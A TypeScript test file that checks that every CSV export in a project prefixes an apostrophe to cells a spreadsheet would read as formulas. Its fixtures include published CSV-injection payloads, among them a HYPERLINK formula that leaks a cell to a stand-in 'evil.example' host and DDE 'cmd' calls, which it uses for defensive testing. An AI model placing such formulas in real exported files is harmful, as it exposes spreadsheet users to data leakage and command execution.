import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { customersCsvParts, exportColumns } from '../explorer/csv';
import { customer } from '../explorer/fixtures.test-util';
import { toCsv } from '../format/table-data';
import { exportCustomersCsv, exportOrdersCsv } from '../orders/export-orders';
import { tableCsvChunks } from '../tables/serialise';
import type { TransactionLog } from '../transactions/transaction-log';
import { csvCell, csvChunks, toCsvText } from './csv';

/**
 * Hostile cells, as OWASP's CSV-injection page and published payload lists describe them: each
 * starts with a character a spreadsheet reads as the start of a formula, or breaks a naive writer.
 */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3',
  '-1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠cmd',
  '=',
  '+',
  '-',
  '@',
];
const BREAKERS = [
  'plain',
  'a=b',
  'comma, inside',
  'quote " inside',
  '"quoted"',
  'line\nbreak',
  'cr\rinside',
  'crlf\r\ninside',
  '',
  ' =leading space',
  "'already quoted",
  'ünïcödé ₹1,200',
];

/** RFC 4180 read-back by an independent parser; the header is the first row. */
function parse(text: string): string[][] {
  expect(text.endsWith('\r\n')).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(0, -2), { header: false, delimiter: ',', newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** What a spreadsheet would run: the rule OWASP gives, applied to the cell as read back. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

describe('the one CSV writer', () => {
  it('given hostile text cells, then none reads back as a formula and each reads back as its text behind one apostrophe', () => {
    const text = toCsvText(
      ['value'],
      [...FORMULAS, ...BREAKERS].map((v) => [v]),
    );
    const rows = parse(text).slice(1);
    expect(rows).toHaveLength(FORMULAS.length + BREAKERS.length);
    rows.forEach(([cell], i) => {
      const original = [...FORMULAS, ...BREAKERS][i]!;
      expect(runsAsFormula(cell!)).toBe(false);
      expect(cell).toBe(i < FORMULAS.length ? `'${original}` : original);
    });
  });

  it('given numbers, then they stay numbers (a negative one too); null, undefined and non-finite numbers are empty', () => {
    const rows = parse(toCsvText(['n'], [[-3], [12.5], [0], [null], [undefined], [Number.NaN], [Infinity]]));
    expect(rows.slice(1).map((r) => r[0])).toEqual(['-3', '12.5', '0', '', '', '', '']);
  });

  it('given a hostile header, then it is guarded too', () => {
    expect(parse(toCsvText(['=1+1', 'ok'], []))[0]).toEqual(["'=1+1", 'ok']);
  });

  it('given many rows, then chunks join to the same text as one piece, each line CRLF-terminated', () => {
    const rows = Array.from({ length: 25 }, (_, i) => [i, `r${i}`, i % 3 ? 'a,b' : '=x']);
    const chunks = [...csvChunks(['i', 's', 't'], rows, { chunkRows: 7 })];
    expect(chunks.length).toBe(1 + 4);
    expect(chunks.join('')).toBe(toCsvText(['i', 's', 't'], rows));
    expect(chunks.join('').split('\r\n')).toHaveLength(1 + 25 + 1);
  });

  it('given the guard off (test fixtures imitating other exports), then text is only quoted', () => {
    expect(csvCell('=1+1', { formulaGuard: false })).toBe('=1+1');
    expect(csvCell('a,b', { formulaGuard: false })).toBe('"a,b"');
  });
});

describe('every CSV the project writes goes through the guard', () => {
  const HOSTILE_ID = '=HYPERLINK("http://evil.example","x")';
  const HOSTILE_CATEGORY = '+Plus Size, Kurtas';

  it('public/data tables (customers_master.csv, clv_proxy.csv)', () => {
    const text = [...tableCsvChunks(['customer_id', 'total_spend'], [[HOSTILE_ID, -12.5]])].join('');
    expect(parse(text)[1]).toEqual([`'${HOSTILE_ID}`, '-12.5']);
  });

  it('the explorer export', async () => {
    const c = customer({ customer_id: HOSTILE_ID, persona: '@persona', total_spend: 10 });
    const columns = exportColumns(['customer_id', 'persona', 'total_spend']);
    async function* batches() {
      yield [columns.map((col) => c[col])];
    }
    const text = (await customersCsvParts(columns, batches())).join('');
    expect(parse(text)[1]).toEqual([`'${HOSTILE_ID}`, "'@persona", '10']);
  });

  it('chart and table downloads', () => {
    const text = toCsv({
      columns: [
        { key: 'name', label: 'Category' },
        { key: 'v', label: 'Value' },
      ],
      rows: [{ name: HOSTILE_CATEGORY, v: -4 }],
    });
    expect(parse(text)[1]).toEqual([`'${HOSTILE_CATEGORY}`, '-4']);
  });

  it('the orders, intents and customers exports', () => {
    const log = {
      windowStart: '2025-01-01',
      windowDays: 10,
      categories: [{ category_id: 1, name: HOSTILE_CATEGORY, intent: '-Sale-' }],
      customerCount: 1,
      customerIds: [HOSTILE_ID],
      attributes: {
        age: Uint8Array.from([30]),
        gender: Uint8Array.from([0]),
        locale: Uint8Array.from([0]),
      },
      customerOrderStart: Uint32Array.from([0, 1]),
      orderCount: 1,
      orderDay: Uint16Array.from([2]),
      orderHour: Uint8Array.from([10]),
      orderChannel: Uint8Array.from([1]),
      orderGross: Float64Array.from([100]),
      orderDiscount: Float64Array.from([0]),
      orderDwellMinutes: Float32Array.from([0]),
      orderLineStart: Uint32Array.from([0, 1]),
      lineCount: 1,
      lineCategory: Uint16Array.from([0]),
      lineQuantity: Uint16Array.from([1]),
      lineNet: Float32Array.from([100]),
    } as unknown as TransactionLog;
    const { orders, intents } = exportOrdersCsv(log);
    const line = parse(orders)[1]!;
    expect(line[1]).toBe(`'${HOSTILE_ID}`);
    expect(line[4]).toBe(`'${HOSTILE_CATEGORY}`);
    expect(parse(intents)[1]).toEqual([`'${HOSTILE_CATEGORY}`, "'-Sale-"]);
    expect(parse(exportCustomersCsv(log))[1]![0]).toBe(`'${HOSTILE_ID}`);
  });
});
